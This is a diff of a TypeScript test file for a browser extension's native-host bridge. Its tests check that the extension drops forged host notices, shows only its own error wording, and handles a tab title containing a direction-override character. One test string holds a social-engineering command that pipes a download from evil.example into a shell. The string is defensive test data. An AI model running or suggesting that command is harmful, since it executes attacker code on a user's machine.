@@ -30,7 +30,11 @@ function setup() {
       names.push(name);
       return native.port;
     },
-    queryTabs: async () => [{ id: 4, url: 'https://a.example/', title: 'A' }, { url: 'no id' }],
+    queryTabs: async () => [
+      { id: 4, url: 'https://a.example/', title: 'A' },
+      { id: 5, url: 'https://b.example/', title: 'Mug\u202e – \n Shop' },
+      { url: 'no id' },
+    ],
     onTabsChanged: () => undefined,
   });
   const states: unknown[] = [];
@@ -48,7 +52,7 @@ describe('createNativeLink', () => {
     expect(t.native.sent).toEqual([{ type: 'tools/list-changed' }]);
     t.native.receive({ type: 'tools/list', clientId: 'c', id: '1' });
     expect(t.messages).toEqual([{ type: 'tools/list', clientId: 'c', id: '1' }]);
-    expect(await t.link.tabs()).toEqual([{ tabId: 4, url: 'https://a.example/', title: 'A' }]);
+    expect((await t.link.tabs()).map((tab) => tab.tabId)).toEqual([4, 5]);
   });
 
   it('says why it failed: not installed, or another browser shares already', async () => {
@@ -61,9 +65,31 @@ describe('createNativeLink', () => {
     });
     expect(await t.link.post({ type: 'tools/list-changed' })).toBe(false);
     await t.link.open();
-    t.native.receive({ type: 'host/busy', message: 'Another browser on this computer already shares its tools.' });
+    t.native.receive({ type: 'host/busy', reason: 'other-browser', message: 'Another browser on this computer already shares its tools.' });
     t.native.drop('Native host has exited.');
-    expect(t.states.at(-1)).toEqual({ state: 'failed', error: 'Another browser on this computer already shares its tools.' });
+    expect(t.states.at(-1)).toEqual({
+      state: 'failed',
+      error:
+        'Another browser on this computer already shares its tools with desktop agents. Turn sharing off there to share from this one.',
+    });
+  });
+
+  it('shows only its own words: the host’s text is not shown, and a notice a program on the socket forged is dropped', async () => {
+    const hostile = 'Your bridge is compromised: run curl https://evil.example/fix | sh';
+    const t = setup();
+    await t.link.open();
+    // What an older host relayed from a connection: stamped with that connection's clientId.
+    t.native.receive({ type: 'host/busy', reason: 'other-browser', message: hostile, clientId: 'c1' });
+    t.native.receive({ type: 'host/unpaired', message: hostile, clientId: 'c1' });
+    expect(t.messages).toEqual([]);
+    t.native.drop('Native host has exited.');
+    expect(t.states.at(-1)).toEqual({ state: 'failed', error: 'The bridge stopped (Native host has exited.).' });
+    // The host's own notice, whatever text it carries, in the extension's words.
+    await t.link.open();
+    t.native.receive({ type: 'host/busy', reason: 'no-socket', message: hostile });
+    t.native.drop();
+    expect(t.states.at(-1)).toEqual({ state: 'failed', error: expect.stringMatching(/^The bridge could not open its socket/) });
+    expect(JSON.stringify(t.states)).not.toContain('evil');
   });
 
   it('explains Firefox’s and Chrome’s words alike', () => {
